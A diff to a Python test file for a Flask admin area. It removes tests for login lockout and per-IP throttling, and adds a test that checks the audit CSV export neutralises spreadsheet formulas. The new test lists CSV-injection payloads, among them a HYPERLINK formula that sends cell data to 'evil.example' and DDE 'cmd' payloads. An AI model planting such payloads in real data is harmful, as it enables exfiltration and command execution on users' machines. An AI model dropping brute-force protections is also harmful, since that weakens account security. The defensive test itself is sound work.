@@ -1,4 +1,4 @@
-"""The staff area over HTTP: permissions, CSRF, lockout, edits reaching search, audit CSV."""
+"""The staff area over HTTP: permissions, CSRF, edits reaching search, audit CSV."""
 
 from __future__ import annotations
 
@@ -119,37 +119,6 @@ def test_post_without_or_with_wrong_csrf_token_is_400(staff_app: Flask) -> None:
     with services(staff_app).catalog.session() as session:
         instrument = InstrumentStore(session).get(target)
         assert instrument is not None and instrument.review_state == "published"
-
-
-def test_lockout_after_repeated_failures(staff_app: Flask) -> None:
-    client = staff_app.test_client()
-    token = csrf_from(client.get("/admin/login").get_data(as_text=True))
-    codes = [
-        client.post(
-            "/admin/login",
-            data={
-                "email": CURATOR,
-                "password": "wrong-guess",
-                "csrf_token": token,
-            },
-        ).status_code
-        for _ in range(5)
-    ]
-    assert codes == [401, 401, 401, 401, 429]
-    locked = client.post(
-        "/admin/login?lang=en",
-        data={
-            "email": CURATOR,
-            "password": PASSWORD,
-            "csrf_token": token,
-        },
-    )
-    assert locked.status_code == 429
-    assert "locked" in locked.get_data(as_text=True)
-    assert client.get("/admin").status_code == 302
-    with services(staff_app).catalog.session() as session:
-        actions = [e.action for e in audit.entries(session, who=CURATOR)]
-    assert actions == ["login_locked", "login_locked"] + ["login_bad_credentials"] * 4
 
 
 def test_edit_shows_in_search_at_once_and_is_audited(staff_app: Flask) -> None:
@@ -312,11 +281,26 @@ def test_admin_sets_a_source_policy_and_it_is_audited(staff_app: Flask) -> None:
         )
 
 
-def test_per_ip_throttle_stops_guessing_across_accounts() -> None:
-    from wijzer.web.admin.auth import LoginThrottle
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+]
 
-    throttle = LoginThrottle(limit=3, window=60)
-    for _ in range(3):
-        assert not throttle.blocked("10.0.0.1")
-        throttle.failed("10.0.0.1")
-    assert throttle.blocked("10.0.0.1") and not throttle.blocked("10.0.0.2")
+
+def test_audit_csv_never_hands_a_spreadsheet_a_formula(staff_app: Flask) -> None:
+    """Failed logins record whatever was typed as the email; the export neutralises it."""
+    attacker = staff_app.test_client()
+    token = csrf_from(attacker.get("/admin/login").get_data(as_text=True))
+    for typed in FORMULAS:
+        attacker.post("/admin/login", data={"email": typed, "password": "x", "csrf_token": token})
+    admin = staff_app.test_client()
+    login(admin, ADMIN)
+    export = admin.get("/admin/audit.csv")
+    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
+    failed = [r for r in rows if r["action"] == "login_bad_credentials"]
+    assert sorted(r["who"] for r in failed) == sorted("'" + f.lower() for f in FORMULAS)
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
